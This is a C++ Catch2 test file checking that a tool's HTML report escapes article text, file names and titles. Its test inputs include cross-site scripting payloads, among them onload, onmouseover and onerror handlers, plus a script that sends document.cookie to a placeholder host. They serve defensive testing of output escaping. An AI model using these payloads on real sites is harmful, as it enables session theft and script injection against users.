// Security: `actorgraph report` puts article text, file names and quotes into HTML.
// Every one of them must arrive escaped, in element text and in attributes (the
// inline SVG's tooltips), so an article can never inject markup or script.
#include <catch2/catch.hpp>

#include <string>

#include "support.hpp"

using namespace actorgraph;

namespace {

// s as one single-quoted shell word.
std::string sh(const std::string& s) {
  std::string out = "'";
  for (char c : s) out += c == '\'' ? std::string("'\\''") : std::string(1, c);
  return out + "'";
}

std::size_t count(const std::string& hay, const std::string& needle) {
  std::size_t n = 0;
  for (auto p = hay.find(needle); p != std::string::npos; p = hay.find(needle, p + 1)) ++n;
  return n;
}

}  // namespace

TEST_CASE("security: report escapes article text, file names and quotes", "[export]") {
  test::Scratch s("security", "report-html");
  // The file name is the article id: it becomes a heading and a graph title.
  const std::string name = "a'b\"c<svg onload=alert(1)>";
  // <xss ...> is no HTML element the text stage removes, so it stays text; the
  // character references decode to a literal "<script>" in the article text;
  // "<script src" has no '>' and stays as it is.
  test::spit(s.dir / (name + ".txt"),
             "date 2024-03-12 France and Germany signed a \"defence\" agreement in Paris "
             "<xss onmouseover=\"alert(1)\"> on Tuesday. Russia criticised the deal "
             "&lt;script&gt;alert('x')&lt;/script&gt; and <script src=x.js\n");
  auto r = s.run("report " + sh(name + ".txt") + " -o report.html --title " + sh("<b>\"T\"</b>"));
  REQUIRE(r.code == 0);
  const std::string html = test::slurp(s.dir / "report.html");
  REQUIRE(!html.empty());

  // Nothing from the input is markup: no script, no injected elements or handlers.
  CHECK(count(html, "<script") == 0);
  CHECK(count(html, "<xss") == 0);
  CHECK(count(html, "<svg onload") == 0);
  CHECK(count(html, "onmouseover=\"") == 0);
  CHECK(count(html, "<b>\"T\"</b>") == 0);

  // ... but all of it is there, as text.
  CHECK(html.find("&lt;xss onmouseover=&quot;alert(1)&quot;&gt;") != std::string::npos);
  CHECK(html.find("&lt;script src=x.js") != std::string::npos);
  CHECK(html.find("alert(&#39;x&#39;)") != std::string::npos);
  CHECK(html.find("a&#39;b&quot;c&lt;svg onload=alert(1)&gt;") != std::string::npos);
  CHECK(html.find("<title>&lt;b&gt;&quot;T&quot;&lt;/b&gt;</title>") != std::string::npos);
  CHECK(html.find("a &quot;defence&quot; ") != std::string::npos);

  // Attributes: every double quote inside a tag delimits an attribute value, so the
  // number of quotes in each tag is even (a raw quote from the input would break it).
  std::size_t odd = 0;
  for (std::size_t p = html.find('<'); p != std::string::npos; p = html.find('<', p + 1)) {
    std::size_t e = html.find('>', p);
    if (e == std::string::npos) break;
    if (count(html.substr(p, e - p), "\"") % 2 != 0) ++odd;
  }
  CHECK(odd == 0);
}

TEST_CASE("security: report of a scraped HTML page shows its text, not its markup", "[export]") {
  test::Scratch s("security", "report-scraped");
  test::spit(s.dir / "page.txt",
             "<html><head><script>document.location='http://example.invalid/'+document.cookie</script></head>"
             "<body><p onclick=\"alert(1)\">France and Germany signed a defence agreement in Paris.</p>"
             "<img src=x onerror=alert(1)></body></html>\n");
  auto r = s.run("report page.txt -o page.html");
  REQUIRE(r.code == 0);
  const std::string html = test::slurp(s.dir / "page.html");
  CHECK(count(html, "<script") == 0);
  CHECK(count(html, "document.cookie") == 0);  // script contents are dropped, not shown
  CHECK(count(html, "onerror") == 0);
  CHECK(count(html, "onclick") == 0);
  CHECK(html.find("France and Germany") != std::string::npos);
}
